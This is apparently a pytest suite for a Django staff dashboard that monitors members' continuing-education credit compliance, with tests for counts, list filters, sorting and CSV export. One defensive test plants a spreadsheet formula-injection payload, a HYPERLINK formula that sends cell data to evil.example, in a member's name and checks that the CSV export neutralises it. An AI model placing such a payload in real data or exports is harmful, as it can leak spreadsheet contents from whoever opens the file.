"""The staff overview, the at-risk list, its CSV and the projected standing: the counts held to
the pure rules member by member on generated data, the filters, the CSV's safety, and a
constant number of queries whatever the membership's size."""

from __future__ import annotations

import csv
import datetime as dt
import io
import random
from decimal import Decimal
from urllib.parse import urlsplit

import pytest

from bench.queries import page_queries
from credits import rules, selectors
from credits.compliance_summary_services import refresh
from credits.models import ComplianceSnapshot, ComplianceSummary
from members.models import Standing
from tests.factories import CreditEntryFactory, MemberFactory, ProviderFactory
from tests.today import TODAY

pytestmark = pytest.mark.django_db

LIST = "/staff/members/at-risk/"


def member_with(
    credits_by_day: list[tuple[dt.date, Decimal, Decimal]], *, pending: bool = False, **fields
):
    """A member and their entries: (end date, credits, patient-safety credits approved, or
    under review with ``pending``)."""
    member = MemberFactory(**fields)
    provider = ProviderFactory()
    for day, amount, safety in credits_by_day:
        CreditEntryFactory(
            member=member,
            provider=provider,
            end_date=day,
            credits=amount,
            patient_safety_credits=safety,
            plastic_surgery_credits=amount / 2,
            review_status=("pending" if pending else "approved") if safety else "not_required",
        )
    return member


def generated(seed: int, count: int) -> list:
    """Members with cycles ending this year, next year and later, and random credits."""
    chance = random.Random(seed)
    members = []
    for index in range(count):
        start = dt.date(TODAY.year - chance.choice((2, 1, 0)) - 3 * chance.randint(1, 3), 1, 1)
        cycle = rules.current_cycle(start, TODAY)
        days = (min(TODAY, cycle.end) - cycle.start).days
        entries = [
            (
                cycle.start + dt.timedelta(days=chance.randint(0, max(days, 0))),
                Decimal(chance.choice((5, 10, 20, 40))),
                Decimal(chance.choice((0, 0, 1, 5))),
            )
            for _ in range(chance.randint(0, 8))
        ]
        pending = index % 7 == 0  # compliant only if the claims under review are approved
        if pending:
            entries = [(cycle.start, Decimal("75"), Decimal("10"))] * 2
        members.append(
            member_with(
                entries,
                pending=pending,
                cycle_start=start,
                joined_on=start - dt.timedelta(days=200),
                asaps_member=chance.random() < 0.3,
                standing=chance.choice(list(Standing.values)),
                standing_since=TODAY - dt.timedelta(days=30),
                last_name=f"Generated{index:03d}",
            )
        )
    refresh(today=TODAY)
    return members


def expected_counts(members, years, body: str) -> dict[str, int]:
    """The pure rules, member by member: the same figures the overview must show."""
    counts = dict.fromkeys([p.value for p in rules.Pace], 0)
    counts |= {"members": 0, "patient_safety_short_count": 0}
    for member in members:
        if body == "asaps" and not member.asaps_member:
            continue
        cycle = rules.current_cycle(member.cycle_start, TODAY)
        if cycle.end.year not in years:
            continue
        compliance = rules.evaluate(selectors.totals_for(member, cycle))
        requirements = [
            (compliance.requirement(code).counted, compliance.requirement(code).required)
            for code in rules.RequirementCode
        ]
        pace = rules.pace.status(
            met=compliance.compliant,
            cycle_end=cycle.end,
            behind=rules.behind_from(cycle, requirements),
            as_of=TODAY,
        )
        counts[pace.value] += 1
        counts["members"] += 1
        if compliance.requirement(rules.RequirementCode.PATIENT_SAFETY).remaining > 0:
            counts["patient_safety_short_count"] += 1
    return counts


def shown(population: dict) -> dict[str, int]:
    by_status = {value: count for _, count, _, value in population["statuses"]}
    patient_safety = population["requirements"][3]
    return by_status | {
        "members": population["members"],
        "patient_safety_short_count": patient_safety[1],
    }


def test_the_overview_counts_agree_with_the_pure_rules_member_by_member(reviewer_client):
    members = generated(seed=19, count=40)

    response = reviewer_client.get("/staff/")

    assert response.status_code == 200
    asps, asaps = response.context["populations"]
    years = (TODAY.year, TODAY.year + 1)
    assert shown(asps) == expected_counts(members, years, "asps")
    assert shown(asaps) == expected_counts(members, years, "asaps")
    assert asps["members"] > 0 and asaps["members"] > 0
    assert sum(count for _, count, _ in asps["standings"]) == asps["members"]


def test_a_chosen_year_counts_the_cycles_ending_that_year(reviewer_client):
    members = generated(seed=7, count=30)
    year = TODAY.year + 2

    response = reviewer_client.get(f"/staff/?year={year}")

    asps, _ = response.context["populations"]
    assert shown(asps) == expected_counts(members, (year,), "asps")


def test_every_count_links_to_the_list_that_shows_that_many_members(reviewer_client):
    generated(seed=3, count=30)
    populations = reviewer_client.get("/staff/").context["populations"]

    links = []
    for population in populations:
        links += [(count, url) for _, count, url, _ in population["statuses"]]
        links += [(count, url) for _, count, _, url in population["requirements"]]
        links += [(count, url) for _, count, url in population["standings"]]
        links += [(population["pending"], population["pending_url"])]
        links += [(population["members"], population["members_url"])]
    for count, url in links:
        assert urlsplit(url).path == LIST
        assert reviewer_client.get(url).context["page"].paginator.count == count, url


def test_the_list_shows_what_each_member_lacks_and_links_to_their_page(reviewer_client):
    cycle_start = dt.date(TODAY.year - 2, 1, 1)
    lacking = member_with(
        [(cycle_start + dt.timedelta(days=10), Decimal("116"), Decimal("8"))],
        cycle_start=cycle_start,
        first_name="Lena",
        last_name="Lacking",
    )
    refresh(today=TODAY)

    body = reviewer_client.get(f"{LIST}?status=").content.decode()

    assert f'href="/staff/members/{lacking.asps_id}/">Lena Lacking, MD</a>' in body
    assert "34 total, 12 patient safety" in body  # 58 plastic surgery: met
    assert str((dt.date(TODAY.year, 12, 31) - TODAY).days) in body


def test_the_list_defaults_to_the_members_at_risk(reviewer_client):
    generated(seed=5, count=25)

    response = reviewer_client.get(LIST)

    rows = response.context["rows"]
    assert rows and {row["status"] for row in rows} == {rules.Pace.AT_RISK}
    assert response.context["form"]["status"].value() == "at_risk"


HELD = ("active", "candidate")


@pytest.mark.parametrize(
    ("query", "keeps"),
    [
        ("requirement=category_1", lambda s, m: s.category_1_short > 0),
        ("standing=probation", lambda s, m: m.standing == "probation"),
        ("body=asaps", lambda s, m: m.asaps_member),
        ("state=ny", lambda s, m: m.state == "NY"),
        ("pending_only=on", lambda s, m: s.depends_on_pending),
        ("ends_within_days=200", lambda s, m: 0 <= (s.cycle_end - TODAY).days <= 200),
        ("status=on_track", lambda s, m: not s.met and s.behind_from > TODAY),
    ],
)
def test_each_filter_keeps_exactly_the_members_it_names(reviewer_client, query, keeps):
    members = generated(seed=11, count=60)
    for member in members[::4]:
        member.state, member.membership_type = "NY", "life"
        member.save(update_fields=["state", "membership_type"])
    members[1].state = "NY"
    members[1].save(update_fields=["state"])
    summaries = ComplianceSummary.objects.filter(
        cycle_end__year__in=[TODAY.year, TODAY.year + 1], member__membership_type__in=HELD
    ).select_related("member")

    response = reviewer_client.get(f"{LIST}?status=&{query}")

    assert response.status_code == 200
    listed = {row["summary"].pk for row in response.context["rows"]}
    expected = {s.pk for s in summaries if keeps(s, s.member)}
    assert listed == expected and 0 < len(expected) < len(summaries), query


def test_a_membership_type_lists_that_type_only(reviewer_client):
    members = generated(seed=11, count=20)
    for member in members[::4]:
        member.membership_type = "life"
        member.save(update_fields=["membership_type"])

    rows = reviewer_client.get(f"{LIST}?status=&membership_type=life").context["rows"]

    assert rows and {row["member"].membership_type for row in rows} == {"life"}
    held = reviewer_client.get(f"{LIST}?status=").context["rows"]
    assert held and "life" not in {row["member"].membership_type for row in held}


def test_sorting_by_deficit_puts_the_largest_first(reviewer_client):
    generated(seed=13, count=30)

    rows = reviewer_client.get(f"{LIST}?status=&sort=deficit").context["rows"]
    by_days = reviewer_client.get(f"{LIST}?status=&sort=days_left").context["rows"]

    deficits = [row["summary"].short_by for row in rows]
    assert deficits == sorted(deficits, reverse=True)
    days = [row["days_left"] for row in by_days]
    assert days == sorted(days)


def test_a_bad_filter_is_named_next_to_its_field_and_left_out(reviewer_client):
    generated(seed=17, count=10)

    response = reviewer_client.get(f"{LIST}?status=&ends_within_days=-3&body=mars")

    assert response.status_code == 400
    body = response.content.decode()
    assert "Ensure this value is greater than or equal to 0." in body
    assert "Select a valid choice. mars is not one of the available choices." in body
    assert reviewer_client.get("/staff/members/at-risk.csv?body=mars").status_code == 400


def csv_rows(response) -> list[list[str]]:
    assert response.streaming
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text)))


def test_the_csv_has_a_header_and_the_filtered_rows(reviewer_client):
    generated(seed=23, count=30)
    query = "status=&requirement=patient_safety&sort=deficit"

    rows = csv_rows(reviewer_client.get(f"/staff/members/at-risk.csv?{query}"))

    listed = reviewer_client.get(f"{LIST}?{query}").context["page"].paginator.count
    assert rows[0][:3] == ["asps_id", "last_name", "first_name"]
    assert len(rows) - 1 == listed > 0
    assert all(Decimal(row[rows[0].index("patient_safety_short")]) > 0 for row in rows[1:])


def test_the_csv_defuses_a_formula_in_a_name(reviewer_client):
    member_with(
        [],
        first_name='=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        last_name="@SUM(1+1)",
        state="-2+3",
    )
    refresh(today=TODAY)

    rows = csv_rows(reviewer_client.get("/staff/members/at-risk.csv?status="))

    header, row = rows[0], rows[1]
    assert row[header.index("first_name")] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    assert row[header.index("last_name")] == "'@SUM(1+1)"
    assert row[header.index("state")] == "'-2+3"


def test_the_list_takes_as_many_queries_for_200_members_as_for_10(reviewer_client):
    generated(seed=29, count=10)
    few = page_queries(reviewer_client, f"{LIST}?status=")
    overview_few = page_queries(reviewer_client, "/staff/")
    generated(seed=31, count=190)
    assert reviewer_client.get(f"{LIST}?status=").context["page"].paginator.count > 50

    assert page_queries(reviewer_client, f"{LIST}?status=") == few
    assert page_queries(reviewer_client, f"{LIST}?status=&page=2") == few
    assert page_queries(reviewer_client, "/staff/") == overview_few


def test_the_chart_draws_the_month_end_snapshots(reviewer_client):
    month_ends = [
        dt.date(TODAY.year - 1, month + 1, 1) - dt.timedelta(days=1) for month in range(1, 12)
    ]
    for index, day in enumerate(month_ends):
        ComplianceSnapshot.objects.create(
            month_end=day, population="asps", members=100, compliant=40 + index
        )

    response = reviewer_client.get("/staff/")

    asps, asaps = response.context["populations"]
    assert asps["chart"].startswith("<svg") and asps["chart"].count("<circle") == 11
    assert asaps["chart"] == ""
    body = response.content.decode()
    assert "50.0%" in body  # the figures as text, too
    assert "No month-end figures are recorded yet" in body


def test_the_overview_says_what_on_track_and_at_risk_mean(reviewer_client):
    body = reviewer_client.get("/staff/").content.decode()

    assert "What “on track” and “at risk” mean" in body
    assert "a third of the way through the cycle, at least a third of each requirement" in body


def test_staff_land_on_the_overview(reviewer_client):
    response = reviewer_client.get("/")

    assert response["Location"] == "/staff/"


def test_a_year_out_of_range_is_named_and_the_default_years_shown(reviewer_client):
    response = reviewer_client.get("/staff/?year=1990")

    assert response.status_code == 400
    assert "Select a valid choice. 1990 is not one of the available choices." in (
        response.content.decode()
    )
    assert response.context["years"] == [TODAY.year, TODAY.year + 1]


def test_the_overview_shows_the_diplomates_at_their_next_deadline(reviewer_client):
    from credits.abps_overview import next_deadline

    deadline = next_deadline(TODAY)
    # Year 3 of the 10-year cycle falls on this deadline for a certification two years back.
    year = deadline.year - 2
    MemberFactory(abps_certification_year=year)
    MemberFactory(abps_certification_year=year, abps_special_circumstances=True)

    page = reviewer_client.get("/staff/").content.decode()

    assert "2 diplomates must meet the board’s requirements by their next deadline" in page
    assert "Patient safety (3 years)" in page
    assert "?body=abps&amp;status=" in page
